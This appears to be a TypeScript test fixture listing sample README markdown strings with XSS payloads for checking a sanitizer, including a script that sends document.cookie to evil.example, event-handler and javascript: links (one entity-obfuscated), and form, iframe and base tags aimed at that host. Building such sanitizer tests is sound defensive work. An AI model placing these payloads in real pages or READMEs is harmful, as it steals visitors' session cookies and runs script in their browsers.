/** READMEs that want to run something: what somebody does, and the text. */
export const README_CORPUS: readonly (readonly [name: string, markdown: string])[] = [
  ['a README with a script', '# fmt\n\n<script>fetch("https://evil.example/" + document.cookie)</script>\n'],
  ['a README with a script in an attribute', '<img src="x" onerror="alert(1)"> <svg onload=alert(1)>\n'],
  ['a README with a link that runs', '[x](javascript:alert(1)) <a href=" java&#x73;cript:alert(1)">x</a>\n'],
  [
    'a README with a form, a frame and another base',
    '<form action="https://evil.example"><iframe srcdoc="<script>"></iframe><base href="//evil.example">\n',
  ],
];
